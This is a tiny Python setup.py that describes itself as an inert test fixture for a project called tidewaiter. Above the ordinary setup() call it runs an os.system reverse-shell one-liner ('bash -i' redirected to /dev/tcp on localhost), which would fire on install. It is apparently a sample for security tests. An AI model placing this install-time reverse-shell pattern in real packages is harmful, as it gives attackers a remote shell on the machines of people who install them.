# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os

os.system("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
